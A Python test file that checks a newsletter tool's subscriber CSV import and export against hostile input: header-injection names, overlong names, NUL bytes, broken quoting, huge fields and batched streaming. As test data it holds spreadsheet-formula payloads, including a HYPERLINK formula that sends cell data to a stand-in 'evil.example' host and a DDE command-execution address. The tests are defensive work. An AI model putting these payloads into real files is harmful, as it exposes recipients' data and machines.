"""Hostile subscriber data (issue 12, rows 5, 6, 12, 13, 14 and 19): names that try to inject
headers, overlong names, spreadsheet formulas, broken quoting, huge fields, NUL bytes, and
imports and exports that must not hold the whole list in memory. SQLite and PostgreSQL."""

import io
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from sqlmodel import Session, select

from digest.cli import app
from digest.db.engine import session_scope
from digest.db.models import Subscriber, SubscriberEvent
from digest.errors import SubscriberError
from digest.subscribers import csvfile
from digest.subscribers.csvfile import escape_cell, export_rows, import_csv, unescape_cell, write_csv
from digest.subscribers.roster import NAME_MAX_LENGTH, add_subscriber
from tests.cli_helpers import ClockedRunner
from tests.schedule_helpers import NEWSLETTER_TOML

TOPICS = ["Robotics"]


def write(tmp_path: Path, text: str, name: str = "list.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8"))
    return path


def names(engine: sa.Engine) -> dict[str, str]:
    with Session(engine) as session:
        return {s.email: s.name for s in session.exec(select(Subscriber))}


def do_import(engine: sa.Engine, path: Path, now: datetime, **kwargs: bool) -> csvfile.ImportReport:
    with session_scope(engine) as session:
        return import_csv(path, session=session, now=now, known_topics=TOPICS, **kwargs)


def export(engine: sa.Engine) -> str:
    out = io.StringIO()
    with Session(engine) as session:
        write_csv(export_rows(session=session), out)
    return out.getvalue()


@pytest.fixture
def cli(tmp_path: Path, db_url: str, monkeypatch: pytest.MonkeyPatch) -> ClockedRunner:
    """The CLI in tmp_path, on this backend's database."""
    (tmp_path / "digest.toml").write_text(NEWSLETTER_TOML)
    monkeypatch.setenv("DIGEST_DATABASE_URL", db_url)
    monkeypatch.setenv("DIGEST_VAR_DIR", str(tmp_path / "var"))
    return ClockedRunner()


# --- row 5: line breaks in a name (header injection) ----------------------------------------


@pytest.mark.parametrize(
    "name",
    ["Ana\u2028Bcc: victim@example.net", "Ana\x85Cc: victim@example.net", "Ana\x0bBcc: victim@example.net"],
    ids=["U+2028", "NEL", "VT"],
)
def test_a_line_break_in_an_imported_name_is_refused_with_its_line(
    engine: sa.Engine, tmp_path: Path, now: datetime, name: str
) -> None:
    path = write(tmp_path, f"email,name\nok@example.com,Ok\nana@example.com,{name}\n")
    with pytest.raises(SubscriberError) as info:
        do_import(engine, path, now)
    code = f"U+{ord(name[3]):04X}"
    assert f"{path}:3: name: a line break or control character ({code}) at character 4" in str(info.value)
    assert "1 invalid row(s), nothing imported" in str(info.value)
    assert names(engine) == {}


def test_crlf_inside_a_quoted_name_is_refused_and_the_injected_line_is_named_too(
    engine: sa.Engine, tmp_path: Path, now: datetime
) -> None:
    path = write(
        tmp_path, 'email,name\r\nana@example.com,"Ana\r\nBcc: victim@example.net"\r\nok@example.com,Ok\r\n'
    )
    with pytest.raises(SubscriberError) as info:
        do_import(engine, path, now)
    lines = str(info.value).splitlines()
    assert lines[0] == f"{path}: 2 invalid row(s), nothing imported:"
    assert lines[1] == f'  {path}:2: a quoted value does not close on this line (a closing " missing?)'
    assert lines[2].startswith(f"  {path}:3: 'Bcc: victim@example.net\"': ")
    report = do_import(engine, path, now, skip_invalid=True)
    assert (report.added, report.invalid_count) == (1, 2)
    assert names(engine) == {"ok@example.com": "Ok"}


def test_add_refuses_a_name_with_crlf_in_one_line(cli: ClockedRunner) -> None:
    result = cli.invoke(
        app, ["subscribers", "add", "ana@example.com", "--name", "Ana\r\nBcc: victim@example.net"]
    )
    assert result.exit_code == 1
    assert result.output == (
        "error: name: a line break or control character (U+000D) at character 4: "
        "it must be one line of text\n"
    )
    assert "ana@example.com" not in cli.invoke(app, ["subscribers", "list"]).output


# --- row 6: a 5,000-character name ----------------------------------------------------------


def test_an_overlong_name_is_refused_with_its_line_and_the_limit_is_inclusive(
    engine: sa.Engine, tmp_path: Path, now: datetime
) -> None:
    longest = "N" * NAME_MAX_LENGTH
    path = write(tmp_path, f"email,name\nfits@example.com,{longest}\nlong@example.com,{'N' * 5000}\n")
    with pytest.raises(SubscriberError) as info:
        do_import(engine, path, now)
    assert f"{path}:3: name: 5,000 characters, at most 100 allowed" in str(info.value)
    assert names(engine) == {}
    do_import(engine, path, now, skip_invalid=True)
    assert names(engine) == {"fits@example.com": longest}


def test_add_refuses_an_overlong_name(cli: ClockedRunner) -> None:
    result = cli.invoke(app, ["subscribers", "add", "ana@example.com", "--name", "N" * 5000])
    assert result.exit_code == 1
    assert result.output == "error: name: 5,000 characters, at most 100 allowed\n"


# --- row 12: spreadsheet formulas in an export ----------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted by the reader",
    "''-two quotes",
    "'plain quote",
    "Ana-Maria = fine",
]


def test_export_quotes_formula_cells_and_import_takes_the_quote_back(
    engine: sa.Engine, tmp_path: Path, now: datetime, db_url: str
) -> None:
    with session_scope(engine) as session:
        for i, name in enumerate(FORMULAS):
            add_subscriber(f"r{i}@example.com", session=session, now=now, known_topics=TOPICS, name=name)
        # a valid address that a spreadsheet would run (DDE): every cell is escaped, not only names
        add_subscriber("=cmd|'/Ccalc'!A0@example.com", session=session, now=now, known_topics=TOPICS)
    text = export(engine)
    cells = {line.split(",", 1)[0]: line for line in text.splitlines()}
    assert cells["r0@example.com"].startswith('r0@example.com,"\'=HYPERLINK(""http://evil.example/?""&A1')
    assert cells["r1@example.com"].startswith("r1@example.com,'+1+1,")
    assert cells["r2@example.com"].startswith("r2@example.com,'-2+3,")
    assert cells["r3@example.com"].startswith("r3@example.com,'@SUM(A1:A9),")
    assert cells["r4@example.com"].startswith("r4@example.com,''=already quoted by the reader,")
    assert cells["r5@example.com"].startswith("r5@example.com,'''-two quotes,")
    assert cells["r6@example.com"].startswith("r6@example.com,'plain quote,")  # no formula: as it is
    assert cells["r7@example.com"].startswith("r7@example.com,Ana-Maria = fine,")
    assert "\n'=cmd|'/ccalc'!a0@example.com," in text
    # Round trip: into an empty database, the same names and the same file.
    other = tmp_path / "other.db"
    from digest.db.engine import open_database

    fresh = open_database(f"sqlite:///{other}")
    do_import(fresh, write(tmp_path, text, "export.csv"), now)
    assert names(fresh) == names(engine)
    assert names(fresh)["r4@example.com"] == "'=already quoted by the reader"
    assert export(fresh) == text
    fresh.dispose()


def test_escape_and_unescape_are_inverse_and_leave_other_quotes_alone() -> None:
    for value in ["\t=1+1", "\r=1+1", "=", "-", "@", "+", "''=", "'", "'text", "x=1", ""]:
        escaped = escape_cell(value)
        assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r"), value
        assert unescape_cell(escaped) == value, value
    assert [escape_cell(v) for v in ("'", "'text", "x=1", "")] == ["'", "'text", "x=1", ""]


# --- row 13: broken quoting and huge fields -------------------------------------------------


def test_an_unterminated_quote_is_named_at_its_line_and_swallows_no_row(
    engine: sa.Engine, tmp_path: Path, now: datetime
) -> None:
    path = write(
        tmp_path,
        "email,name\n"
        "a@example.com,Ana\n"
        'b@example.com,"Ben\n'  # line 3: the quote never closes
        "c@example.com,Cy\n"
        "d@example.com,Di\n",
    )
    with pytest.raises(SubscriberError) as info:
        do_import(engine, path, now)
    assert str(info.value).splitlines()[1:] == [
        f'  {path}:3: a quoted value does not close on this line (a closing " missing?)'
    ]
    report = do_import(engine, path, now, skip_invalid=True)
    assert report.invalid == (f'{path}:3: a quoted value does not close on this line (a closing " missing?)',)
    assert names(engine) == {"a@example.com": "Ana", "c@example.com": "Cy", "d@example.com": "Di"}


def test_skip_invalid_names_every_skipped_row_after_a_200_kb_field(
    cli: ClockedRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csvfile, "MAX_LISTED", 1)  # the CLI streams them all anyway
    (tmp_path / "list.csv").write_text(
        "email,name\n"
        "a@example.com,Ana\n"
        f'big@example.com,"{"x" * 200_000}"\n'  # line 3
        "c@example.com,Cy\n"
        "not-an-address,Bad\n"  # line 5
        "e@example.com,Eve\n"
        "f@example.com,Mars\n"
    )
    result = cli.invoke(app, ["subscribers", "import", "list.csv", "--skip-invalid"])
    assert result.exit_code == 0, result.output
    skipped = [line for line in result.output.splitlines() if line.startswith("skipped invalid:")]
    assert skipped == [
        "skipped invalid: list.csv:3: line longer than 65,536 characters, skipped whole",
        "skipped invalid: list.csv:5: 'not-an-address': An email address must have an @-sign.",
    ]
    assert "added 4, updated 0, merged duplicates 0, skipped invalid 2" in result.output
    listed = cli.invoke(app, ["subscribers", "list"]).output
    assert all(f"{x}@example.com" in listed for x in "acef")


def test_a_rejected_file_lists_its_first_bad_rows_and_counts_the_rest(
    engine: sa.Engine, tmp_path: Path, now: datetime, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csvfile, "MAX_LISTED", 2)
    path = write(tmp_path, "email\n" + "".join(f"bad{i}\n" for i in range(5)))
    with pytest.raises(SubscriberError) as info:
        do_import(engine, path, now)
    lines = str(info.value).splitlines()
    assert lines[0] == f"{path}: 5 invalid row(s), nothing imported:"
    assert [line.split(": ", 1)[0] for line in lines[1:3]] == [f"  {path}:2", f"  {path}:3"]
    assert lines[3:] == ["  ... and 3 more"]


def test_error_messages_quote_only_the_start_of_a_huge_value(
    tmp_path: Path, engine: sa.Engine, now: datetime
) -> None:
    path = write(tmp_path, f"email,timezone\n{'a' * 50_000},\nok@example.com,{'Z' * 50_000}\n")
    report = do_import(engine, path, now, skip_invalid=True)
    assert [len(m) < 300 for m in report.invalid] == [True, True]
    assert "... (50,000 characters)" in report.invalid[0]
    assert f"{path}:3: unknown time zone 'ZZZZ" in report.invalid[1]


def test_cli_shows_hostile_text_as_text_not_rich_markup(cli: ClockedRunner, tmp_path: Path) -> None:
    (tmp_path / "list.csv").write_text("email,name\n[/x]@,A\nok@example.com,[bold]Ana[/bold] [/oops]\n")
    result = cli.invoke(app, ["subscribers", "import", "list.csv"])
    assert result.exit_code == 1
    assert "list.csv:2: '[/x]@'" in result.output
    assert cli.invoke(app, ["subscribers", "import", "list.csv", "--skip-invalid"]).exit_code == 0
    listed = cli.invoke(app, ["subscribers", "list"], terminal_width=200)
    assert listed.exit_code == 0, listed.output
    assert "[bold]Ana[/bold] [/oops]" in listed.output


# --- row 19: a NUL byte in an imported name (PostgreSQL cannot store it) ---------------------


def test_a_nul_in_an_imported_name_is_refused_with_its_line(
    engine: sa.Engine, tmp_path: Path, now: datetime
) -> None:
    path = write(
        tmp_path,
        "email,name,consent_source\na@example.com,Ana\x00,\nb@example.com,Ben,web\x00\nc@example.com,Cy,\n",
    )
    with pytest.raises(SubscriberError) as info:
        do_import(engine, path, now)
    assert str(info.value).splitlines()[1:] == [
        f"  {path}:2: name: a line break or control character (U+0000) at character 4: "
        "it must be one line of text",
        f"  {path}:3: consent_source: a line break or control character (U+0000) at character 4: "
        "it must be one line of text",
    ]
    report = do_import(engine, path, now, skip_invalid=True)
    assert (report.added, report.invalid_count) == (1, 2)
    assert names(engine) == {"c@example.com": "Cy"}


def test_add_refuses_a_nul_in_a_name(cli: ClockedRunner) -> None:
    result = cli.invoke(app, ["subscribers", "add", "ana@example.com", "--name", "Ana\x00"])
    assert result.exit_code == 1
    assert "error: name: a line break or control character (U+0000) at character 4" in result.output


# --- row 14: streaming, in batches, duplicates merged across them -----------------------------


def test_import_and_export_stream_in_batches_and_merge_duplicates_across_them(
    engine: sa.Engine, tmp_path: Path, now: datetime, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(csvfile, "BATCH_SIZE", 10)
    with session_scope(engine) as session:
        gone = add_subscriber("gone@example.com", session=session, now=now, known_topics=TOPICS)
        gone.status = "unsubscribed"  # type: ignore[assignment]
    rows = [f"r{i}@example.com,Reader {i}" for i in range(35)]
    rows[3] = "dup@example.com,First"
    rows[27] = "DUP@example.com,Last"  # a later batch: the last row wins, in the place of the first
    rows[5] = rows[31] = "gone@example.com,Back?"  # left: kept out, once
    path = write(tmp_path, "email,name\n" + "\n".join(rows) + "\n")
    inserts: list[int] = []
    insert_rows = csvfile.insert_rows

    def count(connection: sa.Connection, table: sa.Table, rows: list[dict[str, Any]]) -> None:
        # Counted here, not as statements: PostgreSQL's COPY does not pass SQLAlchemy's events.
        if table.name == "subscriber":
            inserts.append(len(rows))
        insert_rows(connection, table, rows)

    monkeypatch.setattr(csvfile, "insert_rows", count)
    with session_scope(engine) as session:
        report = import_csv(path, session=session, now=now, known_topics=TOPICS)
        held = len(session.identity_map)
    assert held == 0  # nothing loaded as ORM objects
    assert (report.added, report.updated, report.duplicates) == (32, 0, 2)
    assert report.kept_out == ("gone@example.com (unsubscribed)",)
    assert inserts == [9, 10, 10, 3]  # 33 distinct addresses in batches of 10; gone@ kept out of the first
    got = names(engine)
    assert got["dup@example.com"] == "Last"
    assert got["gone@example.com"] == ""
    with Session(engine) as session:
        events = session.exec(select(SubscriberEvent.kind, SubscriberEvent.method)).all()
    assert events.count(("subscribe", "import")) == 32
    with Session(engine) as session:
        exported = list(export_rows(session=session))
        assert len(session.identity_map) == 0
    assert [r["email"] for r in exported][:5] == [
        "gone@example.com", "r0@example.com", "r1@example.com", "r2@example.com", "dup@example.com",
    ]  # fmt: skip


def test_an_address_signed_up_during_an_import_fails_it_with_one_line(
    engine: sa.Engine, tmp_path: Path, now: datetime, monkeypatch: pytest.MonkeyPatch
) -> None:
    apply_row = csvfile.apply_row
    signed_up: list[str] = []

    def sign_up_meanwhile(*args: Any, **kwargs: Any) -> Any:
        if not signed_up:  # after the batch's lookup, before its insert: another process commits
            with session_scope(engine) as other:
                add_subscriber("b@example.com", session=other, now=now, known_topics=TOPICS, name="Web")
            signed_up.append("b@example.com")
        return apply_row(*args, **kwargs)

    monkeypatch.setattr(csvfile, "apply_row", sign_up_meanwhile)
    path = write(tmp_path, "email,name\na@example.com,Ana\nb@example.com,Ben\n")
    with pytest.raises(SubscriberError, match=r"list\.csv: an address in the file was added by someone else"):
        do_import(engine, path, now)
    assert names(engine) == {"b@example.com": "Web"}
